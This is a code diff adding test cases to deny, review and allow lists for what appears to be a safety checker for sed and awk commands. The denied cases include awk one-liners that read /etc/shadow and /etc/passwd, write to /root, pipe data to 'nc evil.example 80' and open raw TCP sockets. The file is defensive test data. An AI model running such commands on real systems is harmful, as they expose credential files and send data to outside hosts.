@@ -21,6 +21,9 @@ _DENIED = [
     "sed -ie 's/a/b/' /etc/hosts",
     "gawk -e 'BEGIN { system(\"cat /etc/shadow\") }'",
     r"""awk 'BEGIN { while ((getline line < "\057etc/shadow") > 0) print line }'""",
+    'awk \'BEGIN { getline a["x"] < "/etc/passwd" }\'',
+    "awk '{ print $1,\n  $2 > \"/root/x\" }' a",
+    "awk '{ print $1, # the first\n  $2 > \"/root/x\" }' a",
     "awk '{ print | \"nc evil.example 80\" }' a",
     "awk 'BEGIN { \"cat /etc/shadow\" | getline d }'",
     'awk \'{ printf("%s", $1) >> "/root/x" }\' a',
@@ -29,6 +32,7 @@ _DENIED = [
     'awk \'BEGIN { print "x" |& "/inet/tcp/0/h/80" }\'',
 ]
 _REVIEWED = [
+    'awk \'{ print /"/ > "/etc/x" "" }\' a',
     "sed 's/foo/bar/e' a.txt",
     "sed -e 's/where' x",
     'sed "s/a/$command/" x',
@@ -39,6 +43,8 @@ _REVIEWED = [
     "awk '{ @f() }' a",
 ]
 _ALLOWED = [
+    "awk '{ x = /\"/ ? 1 : /[\"]/; print x }' a",
+    "awk 'BEGIN { while ((\"date\" | getline d) > 0) if (d < 5) print d }'",
     "sed -e 's/a/b/' -e '/x/d' in.txt",
     "sed 's/a/b/w out.txt' x",
     "sed 'r head.txt' x",
